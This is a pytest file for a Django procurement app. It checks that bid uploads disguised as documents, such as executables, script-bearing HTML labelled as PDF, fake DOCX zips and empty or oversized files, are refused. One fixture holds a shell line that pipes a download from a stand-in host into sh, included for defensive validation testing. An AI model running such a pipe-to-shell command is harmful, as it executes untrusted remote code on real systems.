"""Bid documents pass the upload checks: a type bids accept, its content what its name says, never a program."""

from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from commissioning.procurement.bidding import services as bidding
from commissioning.procurement.models import Bid
from commissioning.procurement.tests.conftest import answers_for

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\n"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def submit(published, bidders, *documents):
    organisation, user = bidders[0]
    return bidding.bid_submit(
        actor=user,
        procurement=published,
        organisation=organisation,
        price=Decimal("850000"),
        answers=answers_for(published),
        documents=list(documents),
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("method.pdf", b"MZ\x90\x00\x03 a Windows program", "method.pdf looks like a program"),
        ("prices.csv", b"#!/bin/sh\ncurl example.invalid | sh\n", "prices.csv looks like a program"),
        ("method.pdf", b"<html><script>alert(1)</script></html>", "method.pdf is not a real PDF file"),
        ("method.docx", b"PK\x03\x04 a zip that is no document", "method.docx is not a real DOCX file"),
        ("prices.csv", b"\xff\xfe\x00\x00binary", "prices.csv must be plain text (UTF-8)"),
        ("method.pdf", b"", "method.pdf is empty"),
        ("run-me.exe", b"MZ", "run-me.exe is not a file type bids accept"),
    ],
)
def test_a_disguised_or_wrong_document_refuses_the_bid(published, bidders, media, name, content, message):
    with pytest.raises(ValidationError) as excinfo:
        submit(published, bidders, SimpleUploadedFile("letter.pdf", PDF), SimpleUploadedFile(name, content))
    assert message in excinfo.value.message_dict["documents"][0]
    assert not Bid.objects.exists()
    assert not [path for path in media.rglob("*") if path.is_file()]


def test_an_oversized_document_refuses_the_bid(published, bidders, monkeypatch):
    monkeypatch.setattr(bidding, "MAX_DOCUMENT_BYTES", 100)
    with pytest.raises(ValidationError, match=r"method\.pdf is larger than"):
        submit(published, bidders, SimpleUploadedFile("method.pdf", PDF * 10))
    assert not Bid.objects.exists()


def test_real_documents_are_kept_with_the_bid(published, bidders):
    bid = submit(
        published,
        bidders,
        SimpleUploadedFile("method.pdf", PDF),
        SimpleUploadedFile("prices.csv", b"item,price\n"),
    )
    assert sorted(bid.documents.values_list("name", flat=True)) == ["method.pdf", "prices.csv"]
